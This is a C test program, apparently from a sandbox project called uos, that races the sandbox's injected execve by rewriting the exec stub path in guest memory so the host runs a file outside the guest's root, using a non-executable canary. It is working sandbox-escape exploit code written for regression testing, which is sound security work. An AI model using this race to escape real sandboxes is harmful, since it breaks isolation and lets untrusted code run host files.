/*
 * exec_path_race TARGET MAX [N BAD]: rewrite the path of the execve uos
 * injects.
 *
 * Attack: for a guest execve, uos maps an anonymous region in the guest,
 * writes the host path of its exec stub there (/proc/<uos>/fd/<stub>) with
 * argv and envp, and has the guest's thread run execve on it.  The region
 * is the guest's own memory.  A sibling thread predicts where it goes (the
 * main thread maps and unmaps a region of the same size just before, so the
 * kernel hands out the same address again), waits until it is mapped
 * (mincore, which the host answers without a stop) and then rewrites the
 * path with TARGET in a tight loop, while the main thread execs this
 * program again, MAX times in all (each image makes one exec; N counts them
 * and BAD counts the failed ones).
 *
 * Escape: the host kernel resolves TARGET, a host file outside the guest's
 * root (the canary, not executable): the guest's execve fails with EACCES
 * although uos had checked the program (a failed exec of this program can
 * have no other cause); with an executable TARGET the host would load it.
 *
 * Prints one line per failed exec and a summary; exits 1 when an exec
 * failed.  The script checks the host side (exec_path_race.sh).
 */
#include "sec.h"

#include <pthread.h>

/* stage_stub_exec's region: path (64), one 64 KiB env chunk, argv and envp vectors. */
#define STAGE_LEN (65536 + 64 + 4 * sizeof(unsigned long))

extern char **environ;
static const char *target;
static size_t target_len;
static char *volatile where;

static void *rewriter(void *arg)
{
	unsigned char vec[1];
	(void)arg;
	for (;;) {
		char *at = where;
		if (at && rsys3(SYS_mincore, at, 4096, vec) == 0)
			memcpy(at, target, target_len);
	}
	return NULL;
}

static void *predict(void)
{
	void *p = mmap(NULL, STAGE_LEN, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return NULL;
	munmap(p, STAGE_LEN);
	return p;
}

int main(int argc, char **argv)
{
	if (argc != 3 && argc != 5) {
		fprintf(stderr, "usage: exec_path_race TARGET MAX [N BAD]\n");
		return 2;
	}
	target = argv[1];
	target_len = strlen(target) + 1;
	long max = atol(argv[2]), n = argc == 5 ? atol(argv[3]) : 0;
	long bad = argc == 5 ? atol(argv[4]) : 0;
	if (n >= max) {
		say("exec_path_race: %ld execs, %ld failed\n", n, bad);
		return bad ? 1 : 0;
	}
	pthread_t th;
	if (pthread_create(&th, NULL, rewriter, NULL)) {
		fprintf(stderr, "exec_path_race: pthread_create failed\n");
		return 2;
	}
	for (;;) {
		char nbuf[32], badbuf[32];
		snprintf(nbuf, sizeof(nbuf), "%ld", n + 1);
		snprintf(badbuf, sizeof(badbuf), "%ld", bad);
		char *nargv[] = {argv[0], argv[1], argv[2], nbuf, badbuf, NULL};
		where = predict();
		execve(argv[0], nargv, environ);
		int e = errno;
		where = NULL;
		if (bad++ < 5)
			say("exec %ld: ESCAPE? execve failed with %s (the host resolved another path)\n",
			    n, strerrorname_np(e));
		if (++n >= max) {
			say("exec_path_race: %ld execs, %ld failed\n", n, bad);
			return 1;
		}
	}
}
